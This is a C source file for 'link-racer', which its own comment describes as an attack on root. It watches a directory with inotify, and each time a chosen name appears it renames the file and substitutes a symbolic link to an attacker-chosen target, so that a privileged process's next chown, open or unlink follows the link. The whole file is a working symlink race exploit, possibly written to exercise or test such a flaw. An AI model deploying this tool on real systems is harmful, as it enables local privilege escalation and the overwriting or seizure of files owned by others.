/* A game user's attack on root: watches DIR with inotify and, each time an entry NAME is
   created in it, renames it away and puts a symbolic link to TARGET in its place, hoping that
   root's next call on DIR/NAME (a chown, an open, an unlink) follows the link. Runs until
   killed; prints how many swaps it made.
   usage: link-racer DIR NAME TARGET */
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

static volatile sig_atomic_t stopping = 0;

static void stop(int signal) {
    (void)signal;
    stopping = 1;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: link-racer DIR NAME TARGET\n");
        return 2;
    }
    const char *dir = argv[1], *name = argv[2], *target = argv[3];
    char path[4096], moved[4096];
    snprintf(path, sizeof path, "%s/%s", dir, name);
    struct sigaction action;
    memset(&action, 0, sizeof action);
    action.sa_handler = stop;
    sigaction(SIGTERM, &action, NULL);
    int watch = inotify_init();
    if (watch < 0 || inotify_add_watch(watch, dir, IN_CREATE) < 0) {
        perror("inotify");
        return 1;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("racing");
    long swaps = 0;
    char events[4096] __attribute__((aligned(8)));
    while (!stopping) {
        ssize_t length = read(watch, events, sizeof events);
        for (char *cursor = events; length > 0 && cursor < events + length;) {
            struct inotify_event *event = (struct inotify_event *)cursor;
            if (event->len > 0 && strcmp(event->name, name) == 0) {
                snprintf(moved, sizeof moved, "%s/%s.moved.%ld", dir, name, swaps);
                if (rename(path, moved) == 0 && symlink(target, path) == 0) {
                    swaps++;
                }
            }
            cursor += sizeof *event + event->len;
        }
    }
    printf("swaps %ld\n", swaps);
    return 0;
}
